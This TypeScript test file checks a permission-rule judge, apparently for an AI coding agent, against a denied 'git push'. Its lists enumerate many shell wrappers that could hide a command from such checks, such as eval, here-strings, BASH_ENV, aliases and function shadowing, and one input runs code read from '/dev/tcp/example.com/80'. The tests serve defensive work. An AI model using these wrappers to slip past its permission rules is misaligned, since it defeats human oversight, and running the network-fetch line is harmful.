import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judgeText } from '#src/features/rules/judge.js';
import type { RuleList } from '#src/features/rules/rule.js';

const RULES: RuleList = {
  client: 'claude',
  order: 'strictest',
  rules: [
    { action: 'deny', rule: 'Bash(git push *)', pattern: 'git push *', file: '/home/ann/rules.json', isOfPerson: true },
  ],
};

function verdictOf(text: string): 'deny' | 'unseen' | 'pass' {
  const { denied, unseen } = judgeText({ text, input: { kind: 'nothing' }, isSeen: false }, [RULES]);
  if (denied !== null) return 'deny';
  return unseen === null ? 'pass' : 'unseen';
}

/** A command that runs another, which is a list of plain words or any shell source. */
type Around = (inner: string) => string;

const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

/** They take words. Some of these programs are unknown to contextd. */
const OF_WORDS: readonly Around[] = [
  (inner) => `timeout 5 ${inner}`,
  (inner) => `sudo -u bob ${inner}`,
  (inner) => `env -i X=1 ${inner}`,
  (inner) => `ssh-agent ${inner}`,
  (inner) => `./wrap --fast -n 3 -- ${inner}`,
  (inner) => `nsenter -t 1 ${inner}`,
  (inner) => `systemd-run --scope ${inner}`,
  (inner) => `parallel ${inner} ::: 1`,
  (inner) => `xargs -n 1 ${inner}`,
  (inner) => `find . -exec ${inner} {} +`,
  (inner) => `xargs -a list ${inner}`,
  (inner) => `xargs --arg-file=list -n 1 ${inner}`,
  (inner) => `env -S 'X=1' ${inner}`,
];

/** They take a text. */
const OF_TEXTS: readonly Around[] = [
  (inner) => `sh -c ${quoted(inner)}`,
  (inner) => `bash -euc ${quoted(inner)} name`,
  (inner) => `bash -Eeuo pipefail -c ${quoted(inner)}`,
  (inner) => `bash -Eeuo pipefail <<< ${quoted(inner)}`,
  (inner) => `bash -oOc errexit extglob ${quoted(inner)}`,
  (inner) => `bash -noprofile -norc -c ${quoted(inner)}`,
  (inner) => `eval ${quoted(inner)}`,
  (inner) => `eval "$(echo ${quoted(inner)})"`,
  (inner) => `script -qc ${quoted(inner)} /dev/null`,
  (inner) => `./wrap --command=${quoted(inner)}`,
  (inner) => `env -S ${quoted(inner)}`,
  (inner) => `env -S${quoted(inner)}`,
  (inner) => `trap ${quoted(inner)} EXIT`,
  (inner) => `PROMPT_COMMAND=${quoted(inner)} bash -i < /dev/null`,
  (inner) => `alias a=${quoted(inner)}; a`,
  (inner) => `bash <<< ${quoted(inner)}`,
  (inner) => `cat <<'END${inner.length}' | sh\n${inner}\nEND${inner.length}`,
  (inner) => `echo ${quoted(inner)} | sh`,
  (inner) => `su bob -c ${quoted(inner)}`,
  (inner) => `bash /dev/fd/3 3<<< ${quoted(inner)}`,
  (inner) => `sh /proc/self/fd/7 7<<'END${inner.length}'\n${inner}\nEND${inner.length}`,
  (inner) => `. /dev/fd/0 <<< ${quoted(inner)}`,
  (inner) => `source -- /dev/stdin <<< ${quoted(inner)}`,
  (inner) => `{ bash <&4; } 4<<< ${quoted(inner)}`,
  (inner) => `alias a='b '; alias b=${quoted(inner)}; a`,
  (inner) => `env --split-string=${quoted(`X=1 sh -c ${quoted(inner)}`)}`,
];

/** They hide what they run: whatever it is, a person is asked. */
const OF_UNREAD: readonly Around[] = [
  (inner) => `exec 3<<< ${quoted(inner)}; bash <&3`,
  (inner) => `exec 3<<< ${quoted(inner)}; bash /dev/fd/3`,
  (inner) => `exec <<< ${quoted(inner)}; sh`,
  (inner) => `f() { sh; }; echo ${quoted(inner)} | f`,
  (inner) => `coproc sh; echo ${quoted(inner)} >&"\${COPROC[1]}"`,
  (inner) => `echo ${quoted(inner)} > >(sh)`,
  (inner) => `cat <<< ${quoted(inner)} | tee >(bash)`,
  (inner) => `echo ${quoted(inner)} > x; BASH_ENV=x bash -c true`,
  (inner) => `export BASH_ENV="$HOME/x"; ${inner.split(' ').length} bash -c true`,
  (inner) => `echo ${quoted(inner)} > x; ENV=./x sh -i < /dev/null`,
  (inner) => `N=a; alias $N=${quoted(inner)}; a`,
  (inner) => `bash --rcfile /dev/fd/3 -i 3<<< ${quoted(inner)} < /dev/null`,
  (inner) => `PS4="$X" bash -xc true; : ${quoted(inner)}`,
];

/** They take any command as a part of the grammar. */
const OF_GRAMMAR: readonly Around[] = [
  (inner) => `cd lib && ${inner}`,
  (inner) => `( ${inner}\n)`,
  (inner) => `if true; then ${inner}\nfi`,
  (inner) => `echo "$(${inner}\n)"`,
  (inner) => `f() { ${inner}\n}; f`,
];

const around = fc.constantFrom(...OF_TEXTS, ...OF_GRAMMAR);

describe('commands that other commands run', () => {
  it('are seen by a rule through every program that takes words and every text, whatever they are nested in', () => {
    const composed = fc.tuple(
      fc.option(fc.constantFrom(...OF_WORDS), { nil: undefined }),
      fc.array(around, { maxLength: 3 }),
    );
    fc.assert(
      fc.property(composed, ([ofWords, outer]) => {
        const innermost = ofWords === undefined ? 'git push origin' : ofWords('git push origin');
        const text = outer.reduceRight((inner, wrap) => wrap(inner), innermost);
        expect(verdictOf(text), text).not.toBe('pass');
        // The same around another command is no reason to ask, so the verdict is about the command.
        expect(verdictOf(text.replaceAll('push', 'pull')), text).toBe('pass');
      }),
    );
  });

  it('are never passed by where their text cannot be read, whatever that is nested in', () => {
    const composed = fc.tuple(fc.constantFrom(...OF_UNREAD), fc.array(around, { maxLength: 2 }));
    fc.assert(
      fc.property(composed, ([unread, outer]) => {
        const text = outer.reduceRight((inner, wrap) => wrap(inner), unread('git push origin'));
        expect(verdictOf(text), text).not.toBe('pass');
      }),
    );
  });

  it.each([
    'xargs -a words git',
    'xargs --arg-file words git',
    'echo a push | xargs -n1 git',
    "printf 'a\\npush\\n' | xargs -I{} git {}",
    `echo "pu'sh'" | xargs git`,
    'xargs -d, git <<< push,a',
    "alias g='git '; alias p=push; g p",
    "alias g='git '; alias p='-C . '; alias q=push; g p q",
    'hash -p /usr/bin/git g; g push',
    'hash -p "$GIT" g; g push',
    "env -S 'git' push",
    "env -iS 'git push'",
    "env -vS'git' push",
    "env -S 'git\\_push'",
    `env -S 'git \${X}'`,
    'echo() { "$@"; }; echo git push',
    'ls() { command git "$1"; }; ls push',
    'cd() { builtin eval "$*"; }; cd git push',
    'echo() { sudo $1 $2; }; echo git push',
    'bash < /dev/fd/5',
    'bash /dev/tcp/example.com/80',
  ])('are asked about or refused: %s', (text) => {
    expect(verdictOf(text)).not.toBe('pass');
  });

  it.each([
    'bash <&- && sh < /dev/null',
    'exec > log 2>&1; npm test',
    'cd() { builtin cd "$@" && ls; }; cd lib',
    'xargs -a files git add',
    'echo a b | xargs -n1 rm',
    'ENV=production npm start && ENV="$STAGE" make deploy',
    'hash -r; alias ll="ls -l"; ll',
    "env -S 'node --test' lib",
    'f() { cat; sort; }; echo a | f',
    'while read -r x; do echo "$x"; done < list',
    'diff <(sort a) <(sort b) | tee >(wc -l)',
    'cat /dev/fd/3 3< file; . ./env.sh; source venv/bin/activate',
    'PS1="$X " PROMPT_COMMAND= make',
  ])('ask nothing about %s', (text) => {
    expect(verdictOf(text)).toBe('pass');
  });

  it.each([
    ['MSG="say git push"; echo "$MSG"'],
    ['eval "$(ssh-agent -s)"'],
    ['eval "$(direnv hook bash)" && eval "$(brew shellenv)"'],
    ['source <(kubectl completion bash)'],
    ['. <(npm completion)'],
    ['$(npm root)/x/run && $(type -p true)'],
    ['./run.sh "$X" && "$DIR/run" push && make "$TARGET"'],
    ['git commit -m "do not git push" && gh pr create --body "then git push"'],
    ['docker rm git && man git-push && grep -rn "git push" docs'],
    ['x=$(git rev-parse HEAD); echo "$x" | tee -a log'],
  ])('of a day at work ask nothing: %s', (text) => {
    expect(verdictOf(text)).toBe('pass');
  });
});
